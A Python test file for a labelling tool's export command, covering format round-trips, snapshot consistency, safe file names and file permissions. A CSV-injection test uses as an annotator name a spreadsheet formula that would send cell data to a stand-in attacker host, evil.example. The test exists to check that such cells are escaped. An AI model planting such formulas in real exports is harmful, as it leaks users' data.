"""``shortlist export-labels`` (agent/exports.py) against a real agent: every format round-trips through
our own readers (labels CSV also through ``shortlist label``'s reader, the ImageFolder tree through
shortlist.datasets and torchvision), and bad requests leave nothing behind."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import os
import stat
import unicodedata
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import grpc
import numpy as np
import pytest
from PIL import Image, ImageDraw, PngImagePlugin
from typer.testing import CliRunner

from agent import client, exports
from agent.labels_csv import read_labels_csv
from agent.testing import publish_linear
from shortlist.cli import app
from shortlist.datasets import iter_images
from shortlist.images import decode_image, encode_png, tensor_pixels
from shortlist.v1 import agent_pb2
from tests.agent.conftest import CLASSES, SIZE, Running, make_images, make_samples, png, start

runner = CliRunner()


def cli(r: Running, *args: str) -> tuple[int, str]:
    res = runner.invoke(app, ["export-labels", "--agent", r.address, *args])
    return res.exit_code, res.output


def labelled_agent(r: Running) -> None:
    """12 PNG samples (s0..s5 labelled at ingest) and one raw-tensor sample; s6 labelled by bob then relabelled
    by alice from a prior, t0 labelled by carol; the sample id with a slash exercises file naming."""
    samples = make_samples(12, labels=6)
    samples.append(client.tensor_sample("dir/t0.raw", make_images(1, seed=5)[0]))
    assert client.ingest(r.stub, samples).accepted == 13
    client.submit_labels(r.stub, [("s6", "cat")], "bob")
    client.submit_labels(r.stub, [("s6", "cat"), ("s7", "dog")], "alice", source="prior:knn")
    client.submit_labels(r.stub, [("dir/t0.raw", "frog")], "carol")


def test_every_format_round_trips(running: Running, tmp_path: Path) -> None:
    labelled_agent(running)
    out = tmp_path / "export"
    code, text = cli(running, "--out", str(out), "--json")
    assert code == 0, text
    summary = json.loads(text)
    assert (summary["labels"], summary["images"], summary["priors"]) == (9, 9, 4)
    assert summary["files"] == ["fiftyone", "imagefolder", "labels.csv", "labels.jsonl", "priors.csv",
                                "priors.jsonl", exports.PRIORS_META, "samples.csv", "samples.jsonl"]
    current = {r.id: r for r in client.list_labels(running.stub)}
    # labels.csv and labels.jsonl: every field of ListLabels, times to the microsecond
    for rows in (exports.read_csv_rows(out / "labels.csv"), exports.read_jsonl_rows(out / "labels.jsonl")):
        assert [r["id"] for r in rows] == list(current)
        for row in rows:
            rec = current[row["id"]]
            assert (row["label"], row["annotator"], row["source"], row["model_version"], row["audit"]) == \
                (rec.label, rec.annotator, rec.source, rec.model_version, rec.audit)
            assert row["time"] == pytest.approx(rec.time, abs=1e-5)
    assert (current["s6"].annotator, current["s6"].source) == ("alice", "prior:knn")
    # ... and labels.csv is what `shortlist label` reads
    read_back = read_labels_csv(out / "labels.csv").rows
    assert [(i, lab) for _, i, lab in read_back] == [(i, r.label) for i, r in current.items()]
    # samples: each labelled sample's uri and metadata as ingested, to join on id (the tensor has no metadata)
    for rows in (exports.read_csv_rows(out / "samples.csv"), exports.read_jsonl_rows(out / "samples.jsonl")):
        assert sorted(r["id"] for r in rows) == sorted(current)
    flat = {r["id"]: r for r in exports.read_csv_rows(out / "samples.csv")}
    assert list(flat["s6"]) == ["id", "uri", "site"] and (flat["s6"]["site"], flat["s7"]["site"]) == ("a", "b")
    assert flat["dir/t0.raw"]["site"] == ""
    nested = {r["id"]: r for r in exports.read_jsonl_rows(out / "samples.jsonl")}
    assert nested["s7"]["metadata"] == {"site": "b"} and nested["dir/t0.raw"]["metadata"] == {}
    # priors: one row per unlabelled sample, the agent's answer
    served = {p.id: p for p in running.stub.PriorLabels(agent_pb2.PriorLabelsRequest(method="knn"))}
    for rows in (exports.read_csv_rows(out / "priors.csv"), exports.read_jsonl_rows(out / "priors.jsonl")):
        assert {r["id"] for r in rows} == set(served) == {"s8", "s9", "s10", "s11"}
        for row in rows:
            p = served[row["id"]]
            assert (row["label"], row["method"], row["model_version"]) == (p.label, "knn", "v0001")
            assert row["confidence"] == pytest.approx(p.confidence, abs=1e-6)
    # priors.meta.json: the reply's calibration provenance (3 labels a class: few held out, so a warning,
    # which the summary's notes repeat)
    cal = next(iter(running.stub.PriorLabels(agent_pb2.PriorLabelsRequest(method="knn")))).calibration
    meta = exports.read_priors_meta(out)
    assert (meta["method"], meta["model_version"], meta["priors"]) == ("knn", "v0001", 4)
    assert meta["calibration"] == summary["calibration"] == client.calibration_dict(cal)
    assert meta["calibration"]["source"] in ("default", "labelled") and meta["calibration"]["held_out"] < 20
    assert meta["calibration"]["warning"].startswith("confidences calibrated on ")
    assert summary["notes"] == [f"priors: {meta['calibration']['warning']}"]
    probs = exports.read_jsonl_rows(out / "priors.jsonl")[0]["probs"]
    assert set(probs) == set(CLASSES) and sum(probs.values()) == pytest.approx(1.0, abs=1e-4)
    # the images: ImageFolder through shortlist's reader, FiftyOne through ours, payloads byte for byte
    payload = {s.id: s for s in client.list_samples(running.stub, labeled_only=True, include_payload=True)}
    tree = out / "imagefolder"
    names = exports.read_ids(tree)
    items = list(iter_images(tree))
    assert len(items) == 9
    for item in items:
        rel = item.id
        sid = names[rel]
        assert item.label == current[sid].label and item.encoded is not None
        if sid == "dir/t0.raw":  # a raw tensor comes out as PNG with the same pixels
            assert rel.endswith(".png") and (decode_image(item.encoded) == make_images(1, seed=5)[0]).all()
        else:
            assert item.encoded == payload[sid].encoded_image
    fo = out / "fiftyone"
    fo_ids = exports.read_ids(fo)
    fo_labels = exports.read_fiftyone_classification(fo)
    assert {fo_ids[f]: lab for f, lab in fo_labels.items()} == {i: r.label for i, r in current.items()}
    doc = json.loads((fo / "labels.json").read_text())
    assert doc["classes"] == CLASSES and all(isinstance(t, int) for t in doc["labels"].values())


def test_the_imagefolder_tree_is_what_torchvision_reads(running: Running, tmp_path: Path) -> None:
    datasets = pytest.importorskip("torchvision.datasets")
    labelled_agent(running)
    code, text = cli(running, "--out", str(tmp_path / "e"), "--format", "imagefolder")
    assert code == 0, text
    ds = datasets.ImageFolder(str(tmp_path / "e" / "imagefolder"))
    names = exports.read_ids(tmp_path / "e" / "imagefolder")
    current = {r.id: r.label for r in client.list_labels(running.stub)}
    assert len(ds) == 9 and ds.classes == sorted(set(current.values()))
    root = tmp_path / "e" / "imagefolder"
    got = {names[Path(p).relative_to(root).as_posix()]: ds.classes[c] for p, c in ds.samples}
    assert got == current
    img, _ = ds[0]
    assert np.asarray(img).shape == (12, 10, 3)
    assert not (tmp_path / "e" / "labels.csv").exists()


def test_history_lists_every_label(running: Running, tmp_path: Path) -> None:
    labelled_agent(running)
    code, text = cli(running, "--out", str(tmp_path / "h"), "--format", "jsonl", "--history", "--prior-method", "")
    assert code == 0, text
    rows = exports.read_jsonl_rows(tmp_path / "h" / "labels.jsonl")
    assert len(rows) == 10 and [r["annotator"] for r in rows if r["id"] == "s6"] == ["bob", "alice"]
    assert not (tmp_path / "h" / "priors.jsonl").exists() and not any(r["retracted"] for r in rows)
    # a retraction is a row of the history (empty label), and the sample leaves the current labels
    assert client.retract_labels(running.stub, ["s6"], annotator="carol").accepted == 1
    code, text = cli(running, "--out", str(tmp_path / "r"), "--format", "csv", "--history", "--prior-method", "")
    assert code == 0, text
    rows = exports.read_csv_rows(tmp_path / "r" / "labels.csv")
    assert [(r["label"], r["annotator"], r["retracted"]) for r in rows if r["id"] == "s6"] == [
        ("cat", "bob", False), ("cat", "alice", False), ("", "carol", True)]
    code, text = cli(running, "--out", str(tmp_path / "c"), "--format", "csv", "--prior-method", "")
    current = exports.read_csv_rows(tmp_path / "c" / "labels.csv")
    assert code == 0 and "s6" not in {r["id"] for r in current} and "retracted" not in current[0]


def test_bad_requests_change_nothing(running: Running, tmp_path: Path) -> None:
    client.ingest(running.stub, make_samples(6))
    # no labels yet: no priors, said so, the rest exported
    code, text = cli(running, "--out", str(tmp_path / "a"), "--format", "csv")
    assert code == 0 and "no priors exported" in " ".join(text.split()), text
    assert sorted(p.name for p in (tmp_path / "a").iterdir()) == ["labels.csv", "samples.csv"]
    # a folder that is not empty is refused, untouched
    code, text = cli(running, "--out", str(tmp_path / "a"))
    assert code == 2 and "already exists" in text and "Traceback" not in text
    assert sorted(p.name for p in (tmp_path / "a").iterdir()) == ["labels.csv", "samples.csv"]
    code, text = cli(running, "--out", str(tmp_path / "b"), "--format", "csv,xml")
    assert code == 2 and "xml" in text and not (tmp_path / "b").exists()
    client.submit_labels(running.stub, [("s0", "cat")], "x")
    code, text = cli(running, "--out", str(tmp_path / "c"), "--prior-method", "nope")
    assert code == 1 and "INVALID_ARGUMENT" in text and "nope" in text and not (tmp_path / "c").exists()
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []  # no partial folder left


def test_file_names_are_safe_and_unique() -> None:
    taken: set[str] = set()
    assert exports.file_stem("train/cat/0001.jpg", taken) == "train_cat_0001"
    second = exports.file_stem("train:cat:0001.jpg", taken)
    assert second.startswith("train_cat_0001-") and second != "train_cat_0001"
    assert exports.file_stem("../..", taken) == "sample"
    # Windows device names (with any extension) get the class folders' leading _ (export-labels wrote cat/CON.png)
    assert [exports.file_stem(i, taken) for i in ("CON", "nul.png", "com1.tar.gz", "LPT9.jpeg", "CONSOLE")] == [
        "_CON", "_nul", "_com1.tar.gz", "_LPT9", "CONSOLE"]
    assert exports.file_stem("_CON", taken).startswith("_CON-")  # unique as before
    for bad in ("a/b", "..", ".hidden", ""):
        with pytest.raises(exports.ExportError):
            exports.check_class_folder(bad)


def test_csv_cells_are_never_spreadsheet_formulas_and_still_round_trip(running: Running, tmp_path: Path) -> None:
    """Ids and annotator names that start with = + - @ (a spreadsheet runs them as formulas: =HYPERLINK can
    send cells away) are written with a leading ' (OWASP), and one that starts with ' gets one too; our
    readers (read_csv_rows, read_ids, `label`'s and `retract-labels --if-current`'s) read the names back as
    given, so an export still drives `retract-labels --if-current`."""

    ids = ["=2+5", "+x", "-y", "@z", "'q", "''r", "'=s", "ok"]
    who = '=HYPERLINK("http://evil.example/?"&A2,"click")'
    samples = make_samples(len(ids))
    for s, i in zip(samples, ids, strict=True):
        s.id = i
    assert client.ingest(running.stub, samples).accepted == len(ids)
    client.submit_labels(running.stub, [(i, "cat") for i in ids], who)
    out = tmp_path / "export"
    code, text = cli(running, "--out", str(out), "--format", "csv,imagefolder", "--prior-method", "")
    assert code == 0, text
    with open(out / "labels.csv", newline="", encoding="utf-8") as f:
        raw = list(csv.DictReader(f))
    with open(out / "imagefolder" / exports.IDS_FILE, newline="", encoding="utf-8") as f:
        raw_ids = [r["id"] for r in csv.DictReader(f)]
    for cell in [c for r in raw for c in r.values()] + raw_ids:
        assert not cell or cell[0] not in "=+-@\t\r", cell
    assert {r["id"] for r in raw} == {"'=2+5", "'+x", "'-y", "'@z", "''q", "'''r", "''=s", "ok"}
    assert {r["annotator"] for r in raw} == {"'" + who}
    rows = exports.read_csv_rows(out / "labels.csv")
    assert sorted(r["id"] for r in rows) == sorted(ids) and {r["annotator"] for r in rows} == {who}
    assert sorted(exports.read_ids(out / "imagefolder").values()) == sorted(ids)
    assert sorted(i for _, i, _ in read_labels_csv(out / "labels.csv").rows) == sorted(ids)
    for value in [*ids, "", "'", "-", "x'=", "\t=a"]:
        assert exports.csv_unescape(exports.csv_escape(value)) == value
    res = runner.invoke(app, ["retract-labels", "--file", str(out / "labels.csv"), "--if-current", "--annotator",
                              "lead", "--agent", running.address, "--json"])
    got = json.loads(res.stdout)
    assert res.exit_code == 0 and got["accepted"] == len(ids) and not got["rejected"], res.output
    assert not list(client.list_labels(running.stub))


# torchvision.datasets.folder.IMG_EXTENSIONS and its default loader (pil_loader), as ImageFolder reads a file
TV_IMG_EXTENSIONS = (".jpg", ".jpeg", ".png", ".ppm", ".bmp", ".pgm", ".tif", ".tiff", ".webp")


def _encoded(img: Image.Image, fmt: str, **save: Any) -> bytes:
    buf = io.BytesIO()
    img.save(buf, format=fmt, **save)
    return buf.getvalue()


def _payloads() -> dict[str, bytes]:
    """Payloads of the formats and modes people ingest, each with a shape that shows a wrong reading: a
    left-right split (rotation), a transparent corner, a gradient (scaling)."""
    rgb = Image.new("RGB", (24, 12), (200, 30, 30))
    ImageDraw.Draw(rgb).rectangle([0, 0, 5, 11], fill=(30, 200, 30))
    exif6 = Image.Exif()
    exif6[0x0112] = 6
    rgba = Image.new("RGBA", (16, 16), (0, 0, 0, 0))
    ImageDraw.Draw(rgba).ellipse([2, 2, 13, 13], fill=(0, 0, 255, 255))
    gray16 = Image.fromarray(np.linspace(0, 65535, 16 * 16).reshape(16, 16).astype(np.uint16))
    floats = Image.fromarray(np.linspace(0, 1, 16 * 16, dtype=np.float32).reshape(16, 16), "F")
    pal = Image.new("P", (16, 16), 0)
    pal.putpalette([0, 0, 0, 255, 0, 0] + [0] * 762)
    ImageDraw.Draw(pal).ellipse([2, 2, 13, 13], fill=1)
    xmp6 = PngImagePlugin.PngInfo()  # orientation from XMP only (which Pillow's exif_transpose applies too)
    xmp6.add_itxt("XML:com.adobe.xmp", '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/'
                  '1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:tiff="http://ns.adobe.com/tiff/1.0/" '
                  'tiff:Orientation="6"/></rdf:RDF></x:xmpmeta>')
    return {
        "xmp6.png": _encoded(rgb, "PNG", pnginfo=xmp6),
        "plain.jpg": _encoded(rgb, "JPEG", quality=95), "plain.png": _encoded(rgb, "PNG"),
        "plain.webp": _encoded(rgb, "WEBP", lossless=True), "plain.bmp": _encoded(rgb, "BMP"),
        "plain.tif": _encoded(rgb, "TIFF"), "gray.pgm": _encoded(rgb.convert("L"), "PPM"),
        "palette.png": _encoded(pal, "PNG"),
        "exif6.jpg": _encoded(rgb, "JPEG", quality=95, exif=exif6), "exif6.png": _encoded(rgb, "PNG", exif=exif6),
        "mpo_exif6.jpg": _encoded(rgb, "MPO", quality=95, exif=exif6, save_all=True),
        "anim.gif": _encoded(rgb, "GIF", save_all=True, append_images=[rgb.rotate(180)]),
        "img.avif": _encoded(rgb, "AVIF", quality=100), "img.tga": _encoded(rgb, "TGA"),
        "img.ico": _encoded(rgb, "ICO", sizes=[(24, 12)]),
        "rgba.png": _encoded(rgba, "PNG"), "palette_trns.png": _encoded(pal, "PNG", transparency=0),
        "gray16.png": _encoded(gray16, "PNG"), "gray16.tif": _encoded(gray16, "TIFF"),
        "float.tif": _encoded(floats, "TIFF"),
    }


@pytest.mark.parametrize("name", sorted(_payloads()))
def test_exported_files_give_torchvision_the_pixels_shortlist_decodes(name: str, tmp_path: Path) -> None:
    """torchvision's ImageFolder reads a file by its extension (IMG_EXTENSIONS) with PIL's convert("RGB"):
    it dropped GIFs, read 16-bit images white, float TIFFs black and EXIF-rotated photos sideways. Each
    exported file (ImageFolder's and FiftyOne's: one function) must read, that way, as the pixels Shortlist
    decodes (what people labelled and the model embedded); a payload that does is kept byte for byte."""
    data = _payloads()[name]
    out, ext = exports.image_file(agent_pb2.Sample(id=name, encoded_image=data))
    assert ext in TV_IMG_EXTENSIONS
    path = tmp_path / f"x{ext}"
    path.write_bytes(out)
    with open(path, "rb") as f, Image.open(f) as img:  # torchvision.datasets.folder.pil_loader
        seen = np.asarray(img.convert("RGB"))
    expected = decode_image(data)
    assert seen.shape == expected.shape
    assert np.array_equal(seen, expected)
    if name.startswith(("plain", "gray.", "palette.")):
        assert out == data  # kept as stored: nothing re-encoded without need


def test_class_folders_are_names_windows_can_create(tmp_path: Path) -> None:
    """Class folders were written as the class names, so a Download zip with a class like 'chat noir ?' could
    not be extracted on Windows: a folder name is made safe (<>:"/\\|?* and control characters as _, no trailing
    dot or space, no device name), unique case-insensitively; ids.csv, FiftyOne and the CSV keep the exact
    class name."""
    classes = ["a?b", "a_b", "CON", "x:y*", "chat noir #1 %20 ?é", "cat"]
    publish_linear(tmp_path / "models", size=SIZE, dim=16, rotation=True, seed=0)  # no classes: an open list
    running = start(tmp_path / "data", tmp_path / "models")
    try:
        samples = make_samples(len(classes))
        assert client.ingest(running.stub, samples).accepted == len(classes)
        reply = client.submit_labels(running.stub, [(s.id, c) for s, c in zip(samples, classes, strict=True)], "ann")
        assert not reply.rejected, reply.rejected
        out = tmp_path / "export"
        code, text = cli(running, "--out", str(out), "--format", "csv,imagefolder,fiftyone", "--prior-method", "")
        assert code == 0, text
    finally:
        running.stop()
    tree = out / "imagefolder"
    folders = sorted(p.name for p in tree.iterdir() if p.is_dir())
    assert len(folders) == len(classes) and len({f.casefold() for f in folders}) == len(classes)
    for name in folders:
        assert not set(name) & set('<>:"/\\|?*') and name.isprintable() and name[-1] not in ". ", name
        assert name.split(".")[0].upper() not in {"CON", "PRN", "AUX", "NUL"}, name
    assert {"a_b", "cat", "chat noir #1 %20 _é", "_CON", "x_y_"} <= set(folders)  # safe names kept as they are
    ids = exports.read_ids(tree)
    with open(tree / exports.IDS_FILE, newline="", encoding="utf-8") as f:
        by_file = {exports.csv_unescape(r["file"]): exports.csv_unescape(r["label"]) for r in csv.DictReader(f)}
    label_of = dict(zip((s.id for s in samples), classes, strict=True))
    assert {f: label_of[i] for f, i in ids.items()} == by_file  # the exact class beside each file
    assert (tree / next(f for f, c in by_file.items() if c == "a?b")).is_file()
    fo = exports.read_fiftyone_classification(out / "fiftyone")
    assert sorted(fo.values()) == sorted(classes)
    assert sorted(r["label"] for r in exports.read_csv_rows(out / "labels.csv")) == sorted(classes)


def test_sample_metadata_keys_become_columns_without_hiding_id_or_uri(tmp_path: Path) -> None:
    samples = [agent_pb2.Sample(id="a", uri="cam1/a.jpg", metadata={"id": "tag-7", "site": "reef"}),
               agent_pb2.Sample(id="b", metadata={"date": "2026-12-07"})]
    assert exports.write_samples(samples, tmp_path / "s.csv", tmp_path / "s.jsonl") == 2
    rows = exports.read_csv_rows(tmp_path / "s.csv")
    assert list(rows[0]) == ["id", "uri", "date", "metadata.id", "site"]
    assert rows[0] == {"id": "a", "uri": "cam1/a.jpg", "date": "", "metadata.id": "tag-7", "site": "reef"}
    assert rows[1]["date"] == "2026-12-07" and rows[1]["site"] == ""
    assert exports.read_jsonl_rows(tmp_path / "s.jsonl")[0]["metadata"] == {"id": "tag-7", "site": "reef"}


def _labels_of(out: Path) -> dict[str, dict[str, str]]:
    """Each part of an export -> {sample id: label} (samples: {id: ""}), to compare the parts."""
    parts = {"labels.csv": {r["id"]: r["label"] for r in exports.read_csv_rows(out / "labels.csv")},
             "samples.csv": {r["id"]: "" for r in exports.read_csv_rows(out / "samples.csv")}}
    for folder in ("imagefolder", "fiftyone"):
        with open(out / folder / exports.IDS_FILE, newline="", encoding="utf-8") as f:
            parts[folder] = {exports.csv_unescape(r["id"]): exports.csv_unescape(r["label"]) for r in csv.DictReader(f)}
    tree = {exports.read_ids(out / "imagefolder")[item.id]: item.label for item in iter_images(out / "imagefolder")}
    fo = exports.read_ids(out / "fiftyone")
    parts["imagefolder tree"] = tree
    fo_labels = exports.read_fiftyone_classification(out / "fiftyone")
    parts["fiftyone labels.json"] = {fo[f]: lab for f, lab in fo_labels.items()}
    return parts


class Relabelling:
    """The agent's stub, but before each ListSamples another client relabels s6 (cat <-> dog), takes s0's label
    back and deletes s1: what labelling while an export runs does between its calls."""

    def __init__(self, stub: Any) -> None:
        self.stub, self.calls = stub, 0

    def __getattr__(self, name: str) -> Any:
        return getattr(self.stub, name)

    def ListSamples(self, request: agent_pb2.ListSamplesRequest, **kw: Any) -> Any:
        self.calls += 1
        client.submit_labels(self.stub, [("s6", "dog" if self.calls % 2 else "cat")], "mallory")
        if self.calls == 1:
            client.retract_labels(self.stub, ["s0"], annotator="mallory")
            self.stub.DeleteSamples(agent_pb2.DeleteSamplesRequest(ids=["s1"], annotator="mallory", reason="test"))
        return self.stub.ListSamples(request, **kw)


def test_an_export_is_one_snapshot_of_the_labels(running: Running, tmp_path: Path) -> None:
    """Labels changed between the export's calls: every part still says what the labels were when it read
    them (labels.csv, samples.csv, ImageFolder, FiftyOne agree); a sample deleted meanwhile is noted."""
    labelled_agent(running)
    before = {r.id: r.label for r in client.list_labels(running.stub)}
    stub = Relabelling(running.stub)
    summary = exports.export_labels(stub, tmp_path / "e", exports.ExportConfig(prior_method=""))  # type: ignore[arg-type]
    assert stub.calls >= 1 and client.list_labels(running.stub)  # the labels did change meanwhile
    assert {r.id: r.label for r in client.list_labels(running.stub)} != before
    parts = _labels_of(tmp_path / "e")
    assert parts["labels.csv"] == before and before["s6"] == "cat" and "s0" in before
    kept = {i: lab for i, lab in before.items() if i != "s1"}  # deleted before its sample row could be read
    for name in ("imagefolder", "fiftyone", "imagefolder tree", "fiftyone labels.json"):
        assert parts[name] == kept, name
    assert parts["samples.csv"] == dict.fromkeys(kept, "")
    assert summary.images == len(kept) and any("1 sample(s) deleted while exporting" in n for n in summary.notes)


def test_a_damaged_payload_leaves_out_its_image_only(running: Running, tmp_path: Path) -> None:
    """A labelled sample whose stored payload was damaged: its image is left out, said so on stderr, in
    problems.csv and by exit code 3; everything else is exported (it was a traceback)."""
    labelled_agent(running)
    assert running.agent.blobs is not None
    for sid, damage in (("s6", b"junk\n"), ("s7", None)):
        rec = running.agent.state.lookup(sid)
        assert rec is not None
        path = running.agent.blobs.path(rec.sha256)
        if damage:
            path.write_bytes(damage)
        else:
            path.unlink()
    out = tmp_path / "e"
    code, text = cli(running, "--out", str(out), "--prior-method", "")
    flat = " ".join(text.split())
    assert code == 3 and "Traceback" not in text, text
    assert "2 labelled sample(s) left out of imagefolder and fiftyone" in flat and "problems.csv" in flat
    assert "ingest the same images again under the same ids" in flat
    problems = {r["id"]: r for r in exports.read_csv_rows(out / exports.PROBLEMS_FILE)}
    assert set(problems) == {"s6", "s7"} and problems["s7"]["problem"] == "payload file missing"
    assert "corrupt" in problems["s6"]["problem"] and problems["s6"]["label"] == "cat"
    parts = _labels_of(out)
    assert len(parts["labels.csv"]) == 9 and set(parts["samples.csv"]) == set(parts["labels.csv"])
    images = set(parts["labels.csv"]) - {"s6", "s7"}
    assert set(parts["imagefolder tree"]) == set(parts["fiftyone labels.json"]) == images
    assert all(k not in r for r in exports.read_csv_rows(out / "samples.csv") for k in ("shortlist.payload_error",))
    code, text = cli(running, "--out", str(tmp_path / "j"), "--prior-method", "", "--json")
    assert code == 3 and sorted(json.loads(text)["left_out"]) == ["s6", "s7"]


def test_exports_are_readable_by_their_owner_only(running: Running, tmp_path: Path) -> None:
    """Under umask 022 an export (patients' images and metadata) is 0700 / 0600 like the data folder, unless
    --follow-umask."""
    labelled_agent(running)
    old = os.umask(0o022)
    try:
        assert cli(running, "--out", str(tmp_path / "private"))[0] == 0
        assert cli(running, "--out", str(tmp_path / "shared"), "--follow-umask")[0] == 0
    finally:
        os.umask(old)
    for name, dirs, files in (("private", 0o700, 0o600), ("shared", 0o755, 0o644)):
        root = tmp_path / name
        modes = {p.relative_to(root).as_posix(): stat.S_IMODE(p.stat().st_mode) for p in [root, *root.rglob("*")]}
        assert len(modes) > 20 and any(k.endswith(".png") for k in modes)
        assert {k: m for k, m in modes.items() if m != (dirs if (root / k).is_dir() else files)} == {}, name


def test_labels_csv_moves_to_another_agent_with_its_annotators(running: Running, registry: Path,
                                                                 tmp_path: Path) -> None:
    """`shortlist label` of an exported labels.csv into a fresh agent keeps each label's annotator and source
    (it stored every row as --annotator, source manual); the --history export is refused with a pointer to the
    file to use."""
    labelled_agent(running)
    client.submit_labels(running.stub, [("s8", "dog")], "dave", source="labelstudio")
    assert cli(running, "--out", str(tmp_path / "cur"), "--format", "csv", "--prior-method", "")[0] == 0
    assert cli(running, "--out", str(tmp_path / "hist"), "--format", "csv", "--history", "--prior-method", "")[0] == 0
    given = {r.id: (r.label, r.annotator, r.source) for r in client.list_labels(running.stub)}
    b = start(tmp_path / "b", registry)
    try:
        fresh = make_samples(12)
        fresh.append(client.tensor_sample("dir/t0.raw", make_images(1, seed=5)[0]))
        assert client.ingest(b.stub, fresh).accepted == 13
        res = runner.invoke(app, ["label", str(tmp_path / "hist" / "labels.csv"), "--agent", b.address])
        flat = " ".join(res.output.split())
        assert res.exit_code == 2 and "is a label history" in flat and "without --history" in flat, res.output
        assert not list(client.list_labels(b.stub))
        res = runner.invoke(app, ["label", str(tmp_path / "cur" / "labels.csv"), "--agent", b.address,
                                  "--annotator", "lead"])
        assert res.exit_code == 0 and "accepted 10, rejected 0" in res.output, res.output
        flat = " ".join(res.output.split())
        assert 'annotator and source column(s) (4 annotator(s): "alice", "carol", "dave", "ingest")' in flat
        assert '6 row(s) with source "ingest"' in flat
        got = {r.id: (r.label, r.annotator, r.source) for r in client.list_labels(b.stub)}
        # labels given at ingest keep their annotator; their source 'ingest' is the agent's own, so 'manual'
        assert got == {i: (lab, who, "manual" if how == "ingest" else how) for i, (lab, who, how) in given.items()}
        assert (got["s6"], got["s8"]) == (("cat", "alice", "prior:knn"), ("dog", "dave", "labelstudio"))
        # --no-file-provenance: --annotator and --source for every row, as before
        res = runner.invoke(app, ["label", str(tmp_path / "cur" / "labels.csv"), "--agent", b.address,
                                  "--annotator", "lead", "--no-file-provenance"])
        assert res.exit_code == 0 and "column" not in res.output, res.output
        assert {(r.annotator, r.source) for r in client.list_labels(b.stub)} == {("lead", "manual")}
    finally:
        b.stop()


def test_samples_csv_gives_every_metadata_key_a_column_of_its_own(tmp_path: Path) -> None:
    """Metadata keys "id" and "metadata.id" both became the column "metadata.id" (the header named it twice and
    one value was lost); each key now has one column, and the JSON Lines rows keep the keys as given."""
    sample = agent_pb2.Sample(id="m1", uri="file:m1.png",
                              metadata={"id": "from-meta", "metadata.id": "other", "uri": "u", "site": "north"})
    exports.write_samples([sample], tmp_path / "s.csv", tmp_path / "s.jsonl")
    (row,) = exports.read_csv_rows(tmp_path / "s.csv")
    assert row == {"id": "m1", "uri": "file:m1.png", "metadata.id": "from-meta", "metadata.metadata.id": "other",
                   "site": "north", "metadata.uri": "u"}
    (nested,) = exports.read_jsonl_rows(tmp_path / "s.jsonl")
    assert nested["metadata"] == {"id": "from-meta", "metadata.id": "other", "site": "north", "uri": "u"}


def test_file_names_keep_letters_of_every_script_and_stay_safe() -> None:
    """A non-English team's file names: letters of any script are kept (was: ASCII only, "Rehkitz im Wald
    ÄÖü ñ 鹿.jpg" became "Rehkitz_im_Wald", against docs/app.md), while a name stays one every file system takes:
    NFC, no separators nor control or invisible characters, at most MAX_STEM bytes of UTF-8."""
    taken: set[str] = set()
    assert exports.file_stem("deer/Rehkitz im Wald ÄÖü ñ 鹿.jpg", taken) == "deer_Rehkitz_im_Wald_ÄÖü_ñ_鹿"
    assert exports.file_stem("हिंदी फ़ोटो.png", taken) == "हिंदी_फ़ोटो"  # marks (vowel signs) are kept
    # NFC: the decomposed id is the same name on macOS, so it is made unique rather than overwrite the other
    assert exports.file_stem("café.png", taken) == "café"
    nfd = exports.file_stem("cafe\u0301.png", taken)
    assert nfd.startswith("café-") and nfd == unicodedata.normalize("NFC", nfd)
    assert exports.file_stem("CAFÉ", taken).startswith("CAFÉ-")  # case-insensitively too
    assert exports.file_stem("a\\b:c\x00d\ne\u200bf\u202eg\t.jpg", taken) == "a_b_c_d_e_f_g"
    long = exports.file_stem("鹿" * 100, taken)  # 300 bytes of UTF-8: cut on a character, not inside one
    assert long == "鹿" * 40 and len(long.encode()) <= exports.MAX_STEM
    assert exports.file_stem("com¹.jpg", taken) == "_com¹"  # Windows reads COM¹ as a device name


def test_an_export_is_durable_before_it_is_in_place(running: Running, tmp_path: Path,
                                                     fsync_events: list[tuple[str, str]]) -> None:
    """Every file and folder of the export is fsynced before the folder is renamed to OUT, and OUT's parent
    after: a power loss after the command exits cannot leave an empty labels.csv."""
    labelled_agent(running)
    out = tmp_path / "e"
    exports.export_labels(running.stub, out, exports.ExportConfig(prior_method="knn"))
    events = fsync_events
    swap = events.index(("replace", str(out)))
    part = tmp_path / f".e.partial-{os.getpid()}"
    before = {os.path.relpath(p, part) for kind, p in events[:swap] if kind == "fsync" and p.startswith(str(part))}
    written = {str(p.relative_to(out)) for p in out.rglob("*")} | {"."}
    assert "labels.csv" in written and "imagefolder/ids.csv" in written
    assert written <= before, sorted(written - before)
    assert ("fsync", str(tmp_path)) in events[swap + 1:]


# ---- golden: every byte of an export, pinned --------------------------------------------------------------
GOLDEN = Path(__file__).parent / "data" / "exports_golden.json"
GOLDEN_CLASSES = ["cat", "dog", "frog"]
TOKEN = (("authorization", "Bearer golden"),)


class _Refused(grpc.RpcError):
    """What a stream of the agent raises when it refuses a call (code and details, as grpc's)."""

    def __init__(self, code: grpc.StatusCode, details: str) -> None:
        super().__init__(details)
        self._code, self._details = code, details

    def code(self) -> grpc.StatusCode:
        return self._code

    def details(self) -> str:
        return self._details


def _golden_samples() -> dict[str, agent_pb2.Sample]:
    """The pool of the golden stub: PNGs, a raw tensor, a sample without its payload, metadata keys that
    need the "metadata." prefix, ids and labels a spreadsheet would run as formulas."""
    ims = make_images(5, seed=3)
    return {
        "a.png": agent_pb2.Sample(id="a.png", encoded_image=png(ims[0]), uri="file:///a.png",
                                  metadata={"site": "north", "id": "x1"}),
        "=HYPERLINK(1)": agent_pb2.Sample(id="=HYPERLINK(1)", encoded_image=png(ims[1]), uri="=u",
                                          metadata={"metadata.site": "-2", "site": "+1"}),
        "dir/t0.raw": client.tensor_sample("dir/t0.raw", ims[2]),
        "b": agent_pb2.Sample(id="b", encoded_image=png(ims[3]), metadata={"uri": "y", "site": "south"}),
        "c": agent_pb2.Sample(id="c", encoded_image=png(ims[4]), uri="file:///c.png"),
        "bad": agent_pb2.Sample(id="bad", uri="file:///bad.png",
                                metadata={"site": "east", "shortlist.payload_error": "payload file missing"}),
    }


def _golden_records() -> list[agent_pb2.LabelRecord]:
    """Every label given (ListLabels with history): "gone" is deleted before ListSamples reads it, "b" was
    relabelled, "r" retracted, "c" has a class outside GetStatus' classes."""
    t = 1_700_000_000.123456
